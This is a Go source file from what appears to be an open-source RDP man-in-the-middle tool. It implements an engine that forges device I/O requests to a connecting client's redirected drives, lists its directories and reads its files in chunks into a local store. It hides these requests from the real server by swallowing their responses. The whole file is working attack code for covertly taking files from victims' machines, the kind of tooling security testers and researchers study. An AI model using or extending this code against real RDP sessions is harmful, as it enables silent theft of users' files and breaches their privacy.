// RDP MITM Go - Intercepting relay for RDP sessions
// Copyright (C) 2025 - Pepijn van der Stap, pepijn@neosecurity.nl
//
// This program is free software: you can redistribute it and/or modify
// it under the terms of the GNU Affero General Public License as published
// by the Free Software Foundation, either version 3 of the License, or
// (at your option) any later version.
//
// This program is distributed in the hope that it will be useful,
// but WITHOUT ANY WARRANTY; without even the implied warranty of
// MERCHANTABILITY or FITNESS FOR A PARTICULAR PURPOSE.  See the
// GNU Affero General Public License for more details.
//
// You should have received a copy of the GNU Affero General Public License
// along with this program.  If not, see <https://www.gnu.org/licenses/>.

package mitm

import (
	"errors"
	"fmt"
	"log/slog"
	"strings"

	"github.com/x-stp/rdp-mitm-go/internal/logger"
	"github.com/x-stp/rdp-mitm-go/pkg/metrics"
	"github.com/x-stp/rdp-mitm-go/pkg/rdp"
	"github.com/x-stp/rdp-mitm-go/pkg/recording"
)

const (
	// ForgedCompletionIDBase is the first completion id used for forged
	// requests. Clients count up from 0, so they never get this far.
	ForgedCompletionIDBase = 1_000_000

	forgedReadLength = 64 * 1024
)

var errDeviceRemoved = errors.New("device removed")

type forgedState int

const (
	forgedAwaitingCreate forgedState = iota
	forgedAwaitingData
	forgedAwaitingClose
	forgedComplete
)

// ForgedRequest is one synthetic operation in flight: open, then read or
// list until done, then close.
type ForgedRequest struct {
	DeviceID     uint32
	CompletionID uint32
	Path         string

	state   forgedState
	fileID  uint32
	err     error
	handler forgedHandler
}

// forgedHandler is what a kind of forged request does on each response.
type forgedHandler interface {
	kind() string
	onCreate(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error
	onData(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error
	onClose(e *ForgedEngine, r *ForgedRequest)
	abandon()
}

type forgedKey struct {
	deviceID     uint32
	completionID uint32
}

// ForgedEngine issues device I/O requests of its own to the client and
// consumes the responses before they would be relayed to the server.
type ForgedEngine struct {
	send    func(*rdp.DeviceIORequest) error
	store   *FileStore
	log     *slog.Logger
	metrics *metrics.Metrics

	inflight map[forgedKey]*ForgedRequest
	ids      map[uint32]struct{}
}

// NewForgedEngine creates an engine sending requests with send. Downloaded
// files are saved to store.
func NewForgedEngine(send func(*rdp.DeviceIORequest) error, store *FileStore, log *slog.Logger, m *metrics.Metrics) *ForgedEngine {
	return &ForgedEngine{
		send:     send,
		store:    store,
		log:      log,
		metrics:  m,
		inflight: make(map[forgedKey]*ForgedRequest),
		ids:      make(map[uint32]struct{}),
	}
}

// allocateID returns the lowest completion id not held by a request in
// flight.
func (e *ForgedEngine) allocateID() uint32 {
	id := uint32(ForgedCompletionIDBase)
	for {
		if _, used := e.ids[id]; !used {
			e.ids[id] = struct{}{}
			return id
		}
		id++
	}
}

// Outstanding returns the number of requests in flight.
func (e *ForgedEngine) Outstanding() int { return len(e.inflight) }

// Owns reports whether a response with these ids answers a forged request.
func (e *ForgedEngine) Owns(deviceID, completionID uint32) bool {
	_, ok := e.inflight[forgedKey{deviceID, completionID}]
	return ok
}

func (e *ForgedEngine) start(deviceID uint32, path string, h forgedHandler, create *rdp.DeviceCreateRequest) (*ForgedRequest, error) {
	r := &ForgedRequest{
		DeviceID:     deviceID,
		CompletionID: e.allocateID(),
		Path:         path,
		handler:      h,
	}
	e.inflight[forgedKey{deviceID, r.CompletionID}] = r
	e.log.Debug("Forged request started",
		logger.Operation(h.kind()), logger.DeviceID(deviceID), logger.CompletionID(r.CompletionID), logger.Path(path))

	create.Path = path
	if err := e.request(r, rdp.IRP_MJ_CREATE, 0, create.Encode()); err != nil {
		e.release(r)
		return nil, err
	}
	return r, nil
}

func (e *ForgedEngine) request(r *ForgedRequest, major, minor uint32, body []byte) error {
	return e.send(&rdp.DeviceIORequest{
		DeviceID:      r.DeviceID,
		FileID:        r.fileID,
		CompletionID:  r.CompletionID,
		MajorFunction: major,
		MinorFunction: minor,
		Payload:       body,
	})
}

func (e *ForgedEngine) close(r *ForgedRequest) error {
	r.state = forgedAwaitingClose
	return e.request(r, rdp.IRP_MJ_CLOSE, 0, rdp.EncodeDeviceCloseRequest())
}

func (e *ForgedEngine) release(r *ForgedRequest) {
	delete(e.inflight, forgedKey{r.DeviceID, r.CompletionID})
	delete(e.ids, r.CompletionID)
}

// complete frees the request's id and reports its outcome.
func (e *ForgedEngine) complete(r *ForgedRequest) {
	r.state = forgedComplete
	e.release(r)
	outcome := "complete"
	if r.err != nil {
		outcome = "error"
		e.log.Debug("Forged request failed",
			logger.Operation(r.handler.kind()), logger.DeviceID(r.DeviceID), logger.Path(r.Path), logger.Err(r.err))
	}
	e.metrics.ForgedRequest(r.handler.kind(), outcome)
	r.handler.onClose(e, r)
}

// openFailed completes a request whose create was refused. There is no
// handle to close.
func (e *ForgedEngine) openFailed(r *ForgedRequest, status uint32) {
	r.err = &IOError{Operation: "open " + r.Path, Status: status}
	e.complete(r)
}

// opened records the handle of a successful create.
func (e *ForgedEngine) opened(r *ForgedRequest, resp *rdp.DeviceIOResponse) error {
	create, err := rdp.ParseDeviceCreateResponse(resp.Payload)
	if err != nil {
		return fmt.Errorf("forged create response: %w", err)
	}
	r.fileID = create.FileID
	r.state = forgedAwaitingData
	return nil
}

// Handle consumes a response to a forged request. It reports false when the
// response belongs to a request the real server made.
func (e *ForgedEngine) Handle(resp *rdp.DeviceIOResponse) (bool, error) {
	r, ok := e.inflight[forgedKey{resp.DeviceID, resp.CompletionID}]
	if !ok {
		return false, nil
	}
	switch r.state {
	case forgedAwaitingCreate:
		return true, r.handler.onCreate(e, r, resp)
	case forgedAwaitingData:
		return true, r.handler.onData(e, r, resp)
	case forgedAwaitingClose:
		e.complete(r)
	}
	return true, nil
}

// AbandonDevice completes every request on a removed device with an error.
func (e *ForgedEngine) AbandonDevice(deviceID uint32) {
	for key, r := range e.inflight {
		if key.deviceID != deviceID {
			continue
		}
		r.err = errDeviceRemoved
		e.complete(r)
	}
}

// AbandonAll drops every request in flight without invoking callbacks.
func (e *ForgedEngine) AbandonAll() {
	for _, r := range e.inflight {
		r.state = forgedComplete
		r.handler.abandon()
		e.metrics.ForgedRequest(r.handler.kind(), "abandoned")
	}
	clear(e.inflight)
	clear(e.ids)
}

// ReadFile downloads path from the device into the file store. done runs on
// completion with the saved file, or the error that stopped the download.
func (e *ForgedEngine) ReadFile(deviceID uint32, path string, done func(*recording.FileInfo, error)) error {
	mapping, err := e.store.Open(deviceID, path)
	if err != nil {
		return err
	}
	h := &forgedRead{mapping: mapping, done: done}
	_, err = e.start(deviceID, path, h, &rdp.DeviceCreateRequest{
		DesiredAccess:     rdp.GENERIC_READ | rdp.FILE_READ_DATA | rdp.FILE_READ_ATTRIBUTES,
		SharedAccess:      rdp.FILE_SHARE_READ,
		CreateDisposition: rdp.FILE_OPEN,
		CreateOptions:     rdp.FILE_NON_DIRECTORY_FILE | rdp.FILE_SYNCHRONOUS_IO_NONALERT,
	})
	if err != nil {
		mapping.Abandon()
	}
	return err
}

// ListDirectory lists path on the device. done runs on completion with the
// entries read so far and the error that ended the listing, if any.
func (e *ForgedEngine) ListDirectory(deviceID uint32, path string, done func([]rdp.FileDirectoryEntry, error)) error {
	h := &forgedList{done: done}
	_, err := e.start(deviceID, path, h, &rdp.DeviceCreateRequest{
		DesiredAccess:     rdp.FILE_READ_DATA | rdp.FILE_READ_ATTRIBUTES,
		SharedAccess:      rdp.FILE_SHARE_READ,
		CreateDisposition: rdp.FILE_OPEN,
		CreateOptions:     rdp.FILE_DIRECTORY_FILE | rdp.FILE_SYNCHRONOUS_IO_NONALERT,
	})
	return err
}

// forgedRead reads a file in chunks until the client returns no data.
type forgedRead struct {
	mapping *FileMapping
	offset  uint64
	done    func(*recording.FileInfo, error)
}

func (h *forgedRead) kind() string { return "read" }

func (h *forgedRead) onCreate(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error {
	if resp.IoStatus != rdp.STATUS_SUCCESS {
		e.openFailed(r, resp.IoStatus)
		return nil
	}
	if err := e.opened(r, resp); err != nil {
		return err
	}
	return h.next(e, r)
}

func (h *forgedRead) next(e *ForgedEngine, r *ForgedRequest) error {
	read := &rdp.DeviceReadRequest{Length: forgedReadLength, Offset: h.offset}
	return e.request(r, rdp.IRP_MJ_READ, 0, read.Encode())
}

func (h *forgedRead) onData(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error {
	if resp.IoStatus != rdp.STATUS_SUCCESS {
		r.err = &IOError{Operation: "read " + r.Path, Status: resp.IoStatus}
		return e.close(r)
	}
	data, err := rdp.ParseDeviceReadResponse(resp.Payload)
	if err != nil {
		return fmt.Errorf("forged read response: %w", err)
	}
	if len(data) == 0 {
		return e.close(r)
	}
	if err := h.mapping.Write(h.offset, data); err != nil {
		r.err = err
		return e.close(r)
	}
	h.offset += uint64(len(data))
	return h.next(e, r)
}

func (h *forgedRead) onClose(_ *ForgedEngine, r *ForgedRequest) {
	if r.err != nil {
		h.mapping.Abandon()
		h.done(nil, r.err)
		return
	}
	info, err := h.mapping.Finalize()
	h.done(info, err)
}

func (h *forgedRead) abandon() { h.mapping.Abandon() }

// forgedList queries a directory until the client reports no more files.
type forgedList struct {
	entries []rdp.FileDirectoryEntry
	done    func([]rdp.FileDirectoryEntry, error)
}

func (h *forgedList) kind() string { return "list" }

func (h *forgedList) onCreate(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error {
	if resp.IoStatus != rdp.STATUS_SUCCESS {
		e.openFailed(r, resp.IoStatus)
		return nil
	}
	if err := e.opened(r, resp); err != nil {
		return err
	}
	return h.query(e, r, true)
}

func (h *forgedList) query(e *ForgedEngine, r *ForgedRequest, initial bool) error {
	q := &rdp.DeviceQueryDirectoryRequest{
		InformationClass: rdp.FileBothDirectoryInformation,
		InitialQuery:     initial,
		Path:             JoinRemotePath(r.Path, "*"),
	}
	return e.request(r, rdp.IRP_MJ_DIRECTORY_CONTROL, rdp.IRP_MN_QUERY_DIRECTORY, q.Encode())
}

func (h *forgedList) onData(e *ForgedEngine, r *ForgedRequest, resp *rdp.DeviceIOResponse) error {
	switch resp.IoStatus {
	case rdp.STATUS_SUCCESS:
	case rdp.STATUS_NO_MORE_FILES:
		return e.close(r)
	default:
		r.err = &IOError{Operation: "list " + r.Path, Status: resp.IoStatus}
		return e.close(r)
	}
	entries, err := rdp.ParseQueryDirectoryResponse(resp.Payload)
	if err != nil {
		return fmt.Errorf("forged query directory response: %w", err)
	}
	if len(entries) == 0 {
		return e.close(r)
	}
	h.entries = append(h.entries, entries...)
	return h.query(e, r, false)
}

func (h *forgedList) onClose(_ *ForgedEngine, r *ForgedRequest) {
	h.done(h.entries, r.err)
}

func (h *forgedList) abandon() {}

// JoinRemotePath appends name to a backslash-separated remote directory.
func JoinRemotePath(dir, name string) string {
	if strings.HasSuffix(dir, `\`) {
		return dir + name
	}
	return dir + `\` + name
}
